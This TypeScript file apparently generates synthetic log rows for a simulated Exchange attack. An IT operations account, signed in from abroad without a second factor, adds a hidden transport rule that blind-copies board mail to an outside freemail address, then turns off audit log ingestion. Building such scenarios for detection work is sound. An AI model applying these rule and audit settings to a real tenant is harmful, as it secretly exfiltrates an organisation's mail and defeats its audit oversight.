import { deviceOf } from "../../device.ts";
import { exchangeActRows } from "../../rows/reported-act.ts";
import { signinRow } from "../../rows/signin.ts";
import { appOf } from "../../world.ts";
import { type Attack, inDepartment, user } from "../attack.ts";

/** An operator's account, used from abroad, copies all mail of the board to an outside mailbox with a transport rule. */
export const copiedMailFlow: Attack = {
  kind: "copied mail flow",
  hours: 2,
  plan: (scene) => {
    const { at } = scene;
    const account = scene.take(inDepartment("IT Operations"));
    const place = scene.abroad();
    const seat = { place, device: deviceOf("windows") };
    return {
      subjects: [user(account)],
      types: ["data_exfiltration", "account_compromise"],
      rows: [
        signinRow({ at: at(0), account, ...seat, app: appOf("Exchange Admin Center"), factor: "none" }),
        ...exchangeActRows({
          at: at(11),
          account,
          seat,
          operation: "New-TransportRule",
          parameters: {
            Name: "Journal",
            SentToMemberOf: "board@northwind.example",
            BlindCopyTo: "journal.box@freemail.example",
            SetAuditSeverity: "DoNotAudit",
          },
        }),
        ...exchangeActRows({
          at: at(15),
          account,
          seat,
          operation: "Set-AdminAuditLogConfig",
          parameters: { UnifiedAuditLogIngestionEnabled: "False" },
        }),
      ],
    };
  },
};
